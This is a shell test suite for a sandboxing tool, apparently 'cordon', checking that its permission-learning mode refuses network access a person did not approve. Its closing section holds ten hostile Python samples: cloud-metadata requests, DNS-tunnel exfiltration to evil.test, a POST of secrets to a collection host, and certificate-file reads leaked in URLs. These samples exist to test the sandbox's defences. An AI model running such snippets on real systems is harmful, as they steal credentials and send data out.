#!/bin/sh
# cordon learn and the network: nothing leaves unasked, what was asked for is told, and what a person agreed to is
# learned as hosts, places, methods and first path segments. In an internet of the test's own.
# shellcheck disable=SC2016
HERE=$(cd "$(dirname "$0")" && pwd)
. "$(dirname "$0")/lib-net.sh"
watched
elsewhere cordon-learn-net
LAB_ALSO=$D
. "$HERE/lib-learn.sh"
cd "$D/work" || exit 1
quiet() { lab_anew; : >"$T/lab/dns.log"; }
# learned ARG...: the proposed doors, without comments; the rest in $T/err, JSON in $T/json
learned() { "$c" learn -n 1 "$@" 2>"$T/err" </dev/null 9>&- | sed -n 's/ *#.*//; /^\(use\|read\|edit\|write\|run\|env\|net\|sock\) /p'; }
refused() { "$c" learn -n 1 --json "$@" 2>"$T/err" </dev/null 9>&- >"$T/json"; jq -r '.refused[] | "\(.reason) \(.what) by \(.program)"' "$T/json"; }

# --- stock programs ---
input() { mkdir -p "$T/lab/git" && rm -rf "$T/lab/git/r.git" "$OUT-clone" && git init -q src && (cd src && echo "$1" >"f$1" && git add . && git -c user.name=x -c user.email=x@x.example commit -qm "commit $1") && git clone -q --bare src "$T/lab/git/r.git" && git -C "$T/lab/git/r.git" update-server-info && rm -rf src; }
LEARN='--net web.test:80'
stock git-clone-from-a-local-server git "use base/git
net http://web.test/git/** GET" sh -c "git clone -q http://web.test/git/r.git $OUT-clone && echo $OUT-clone/* && git -C $OUT-clone log -p --format=%H"
rm -rf "$OUT-clone"
input() { echo "url = http://web.test/data/$1" >in.curl; }
stock curl curl "read {work}/in.curl
net http://web.test/data/** GET" curl -sS -m 10 -K in.curl
is "curl: what it may not is refused" "$("$c" run -q -p "$T/curl.cordon" -- curl -sS -m 10 -o /dev/null -w '%{http_code}' -X POST http://web.test/data/1 9>&-)" 403
ok "95 % of all fresh runs pass ($PASSED of $TOTAL)" test $((PASSED * 100)) -ge $((TOTAL * 95))

# --- nothing leaves unasked ---
quiet
is "by default a request is refused and told" "$(refused -- curl -sSf -m 10 http://web.test/data/1)" "network GET http://web.test/data/1 by curl"
is "over TLS too" "$(refused -- curl -sSf -m 10 https://web.test/data/1)" "network GET https://web.test/data/1 by curl"
is "and at another port" "$(refused -- curl -sSf -m 10 http://web.test:8000/data/1)" "network GET http://web.test:8000/data/1 by curl"
has "bytes that are no request too" "$(refused -- python3 -c 'import socket; socket.create_connection(("web.test", 7)).sendall(b"\0\1\2"); raise SystemExit(1)')" "network web.test:7 by python3"
is "no name and no packet left" "$(lab_names)$(lab_packets)" ""
has "and it is said what to do" "$("$c" learn -n 1 -- curl -sSf -m 10 http://web.test/ 2>&1 </dev/null 9>&-)" "ask for each with --network ask"
is "a command that does without the network is offered without" "$(learned -- sh -c 'curl -s -m 10 http://web.test/ping >/dev/null; echo hello')" "$(printf 'run curl')"
is "still nothing" "$(lab_names)$(lab_packets)" ""

# --- agreed to ---
is "one that and is learned" "$(learned --net web.test -- curl -sSf -m 10 http://web.test/a/b/c)" "net http://web.test/a/** GET"
is "methods and first segments stay apart" "$(learned --net web.test -- sh -c 'curl -sSf http://web.test/a/1; curl -sSf -d x http://web.test/a/2; curl -sSf http://web.test/top')" "run curl
net http://web.test/a/** GET POST
net http://web.test/top GET"
is "bytes are a host and a port" "$(learned --net web.test:7 -- python3 -c 'import socket; s = socket.create_connection(("web.test", 7)); s.sendall(b"\0x"); print(s.recv(9))' | grep net)" "net web.test:7"
quiet
has "another port of it was not agreed to" "$(refused --net web.test:443 -- curl -sSf -m 10 http://web.test/data/1)" "network GET http://web.test/data/1"
has "nor another host" "$(refused --net web.test -- curl -sSf -m 10 http://four.test/data/1)" "network GET http://four.test/data/1"
is "and nothing left" "$(lab_names)$(lab_packets)" ""
python3 "$HERE/helpers/answer_on_tty.py" y "$c" learn -n 1 --network ask -o "$T/asked" -- curl -sSf -m 10 http://web.test/data/1 >"$T/out" 2>&1 9>&-
is "a person is asked on the terminal, once" "$?:$(grep -c 'y/N' "$T/out"):$(grep -c 'net http://web.test/data/\*\* GET' "$T/asked")" 0:1:1
has "and sees what wants to go where" "$(cat "$T/out")" "GET http://web.test/data/1"
quiet
python3 "$HERE/helpers/answer_on_tty.py" n "$c" learn -n 1 --network ask -- curl -sSf -m 10 http://web.test/data/1 >"$T/out" 2>&1 9>&-
is "no is no" "$?:$(lab_names)$(lab_packets)" 1:
quiet
is "without a terminal it is no" "$(setsid "$c" learn -n 1 --network ask -- curl -sSf -m 10 http://web.test/data/1 >/dev/null 2>&1 </dev/null 9>&-; echo $?):$(lab_names)$(lab_packets)" 1:
"$c" learn -n 1 --net web.test -- sh -c 'curl -sS -m 10 "http://web.test/a/%1b[31m%0aread%20/etc"; curl -sS -m 10 "http://web.test/a/**"; curl -sS -m 10 "http://web.test/%23x"; true' >"$T/out" 2>"$T/err" </dev/null 9>&-
is "no line comes out of a path's own bytes" "$(grep -c '^read /etc\|\*\*/\|net http://web.test/\*\*\|^#x' "$T/out")" 0
hasnt "and no escape of a terminal" "$(cat "$T/out" "$T/err")" "$(printf '\033')"

# --- answered from a recording ---
printf '%s\n' '{"method":"GET","url":"http://web.test/v1/x/7","status":200,"headers":[["Content-Type","text/plain"]],"body":"recorded\n"}' >"$T/answers"
echo 'place api live http://web.test/v1/' >"$T/places"
quiet
is "with answers a command passes and nothing leaves" "$(learned --answers "$T/answers" -- curl -sSf -m 10 http://web.test/v1/x/7):$(lab_names)$(lab_packets)" "net http://web.test/v1/** GET:"
is "a host of the places file is proposed as a place" "$(learned --answers "$T/answers" --places "$T/places" -- curl -sSf -m 10 http://web.test/v1/x/7)" "net @api/x/** GET"
has "what has no answer does not pass" "$(learned --answers "$T/answers" -- curl -sSf -m 10 http://web.test/v1/y; cat "$T/err")" "no policy: the command failed"

# --- credentials are dummies ---
if [ -x "$CORDON_LIBEXEC/cordon-vault" ]; then
        secret=ghp_Q9zzSecretOfTheTestSuite0123456789
        export XDG_CONFIG_HOME="$D/home"
        printf %s "$secret" | "$c" vault add gh --env GITHUB_TOKEN
        : >"$T/lab/auth.log"
        is "a request that carries the dummy is learned with its credential" "$(learned --with gh --net web.test -- sh -c 'curl -sSf -m 10 -H "Authorization: Bearer $GITHUB_TOKEN" http://web.test/api/1; curl -sSf http://web.test/open' | grep net)" "net http://web.test/api/** GET with gh
net http://web.test/open GET"
        has "servers got a token of the right shape" "$(cat "$T/lab/auth.log")" "Bearer ghp_"
        hasnt "and never the real one" "$(cat "$T/lab/auth.log")" Q9zz
        is "the policy with it takes the real one" "$(: >"$T/lab/auth.log"; "$c" run -q --net 'http://web.test/api/** GET with gh' -- sh -c 'curl -sS -H "Authorization: Bearer $GITHUB_TOKEN" http://web.test/api/1 >/dev/null' 9>&-; cat "$T/lab/auth.log")" "/api/1 Bearer $secret"
        printf 'use base/system\nnet http://web.test/api/** GET with gh\nread {work}/nothing?\n' >"$T/policy"
        : >"$T/lab/auth.log"
        is "tighten gives dummies too" "$("$c" policy tighten -p "$T/policy" -n 1 --network ask --json -- sh -c 'curl -sSf -H "Authorization: Bearer $GITHUB_TOKEN" http://web.test/api/1' </dev/null 2>/dev/null 9>&- | jq -c .passed):$(grep -c Q9zz "$T/lab/auth.log")" true:0
        quiet
        is "and unless asked reaches nothing, and keeps the net door that was used" "$("$c" policy tighten -p "$T/policy" -n 1 --json -- sh -c 'curl -sS http://web.test/api/1 >/dev/null; true' </dev/null 2>/dev/null 9>&- | jq -r .policy | grep -c '^net'):$(lab_names)$(lab_packets)" 1:
        printf 'use base/system\nnet http://web.test/** GET\nnet http://four.test/** GET\nnet wild.test:7\n' >"$T/several"
        is "a net door that the command uses is kept, and others are not" "$("$c" policy tighten -p "$T/several" -n 1 -- sh -c 'curl -sS http://web.test/api/1 >/dev/null 2>&1; true' </dev/null 2>"$T/err" 9>&- | grep '^net'):$(lab_names)$(lab_packets)" "net http://web.test/** GET:"
        has "which it says" "$(cat "$T/err")" "not every door was tried without"
        is "a name that is in no vault is a variable" "$("$c" learn -n 1 --with OPENAI_API_KEY -- sh -c 'case $OPENAI_API_KEY in sk-????????????????????????????????????????????????) exit 0 ;; esac; exit 1' >/dev/null 2>&1 </dev/null; echo $?)" 0
else
        skip "credentials are dummies" "cordon-vault is not built here: it needs OpenSSL"
fi

# --- hostile: what it wants of the network is never proposed, whatever was agreed to ---
# hostile NAME WANTS SCRIPT
SAMPLES=0
echo hello >"$D/work/in.txt"
chmod -R a+rX "$D"
hostile() {
        SAMPLES=$((SAMPLES + 1))
        printf 'import os, socket, urllib.request\ndef attempt(f):\n    try: return f()\n    except Exception: pass\ndef get(u, data=None): return attempt(lambda: urllib.request.urlopen(u, data, 3).read())\n%s\nprint(open("in.txt").read())\n' "$3" >"$D/work/job.py"
        quiet
        "$c" learn -n 1 --json --net web.test -- python3 job.py >"$T/json" 2>"$T/err" </dev/null 9>&-
        is "$1: only what the honest half needs is proposed" "$?:$(jq -r .policy "$T/json" | sed -n 's/ *#.*//; /^\(use\|read\|edit\|write\|run\|env\|net\|sock\) /p' | sort)" "0:$(printf 'read {work}/in.txt\nread {work}/job.py\nuse base/python3')"
        has "$1: what it wanted is told, with who tried" "$(jq -r '.refused[] | "\(.reason) \(.what) by \(.program)"' "$T/json")" "$2"
        is "$1: nothing left" "$(lab_names)$(lab_packets)" ""
        jq -r .policy "$T/json" >"$T/hostile.cordon"
        is "$1: the policy holds" "$("$c" check "$T/hostile.cordon" 2>&1 | grep -c ": ok, ")" 1
}
hostile metadata-post "metadata 169.254.169.254:80 by python3" 'get("http://169.254.169.254/latest/api/token", b"x")'
has "and is denied by a test of the policy" "$(cat "$T/hostile.cordon")" "expect deny net 169.254.169.254:80"
hostile metadata-name "metadata metadata.google.internal by python3" 'get("http://metadata.google.internal/computeMetadata/v1/")'
hostile private-address "private 10.0.0.1:80 by python3" 'get("http://10.0.0.1/"); get("http://192.168.1.1/admin"); get("http://[fd00::1]/")'
hostile exfiltration-by-names "tunnel s1.evil.test by python3" 'for i in range(40): attempt(lambda: socket.getaddrinfo("s%d.evil.test" % i, 443))'
hostile exfiltration-by-long-names "tunnel $(printf %048d 7).evil.test by python3" 'attempt(lambda: socket.getaddrinfo("%048d.evil.test" % 7, 443))'
hostile post-elsewhere "network POST http://four.test/collect by python3" 'get("http://four.test/collect", b"secrets")'
hostile probes-for-the-probe "network GET http://four.test/.cordon by python3" 'get("http://four.test/.cordon"); get("http://four.test/"); get("http://x.invalid/")'
hostile reads-its-certificates "network GET http://four.test/nowhere by python3" 'import glob, re; text = "".join(open(f, errors="replace").read() for f in glob.glob("/etc/cordon/*") + glob.glob("/etc/ssl/certs/ca-certificates.crt")); [get("http://four.test/" + w) for w in {"nowhere"} | set(re.findall("[0-9a-f]{32}", text))]'
hostile names-that-are-lines 'protocol a\x0aread /.test by python3' 'q = lambda n: b"\0\1\1\0\0\1\0\0\0\0\0\0" + b"".join(bytes([len(x)]) + x for x in n) + b"\0\0\1\0\1"; [attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(q(n), ("11.22.33.53", 53))) for n in ([b"a/x", b"test"], [b"x @y", b"test"], [b"a\nread /", b"test"], [b"b:22", b"test"])]; import time; time.sleep(0.2)'
hostile other-protocols "protocol UDP to 11.22.33.44:4444 by python3" 'attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("11.22.33.44", 4444)))'
ok "there are ten samples" test "$SAMPLES" -ge 10
done_testing
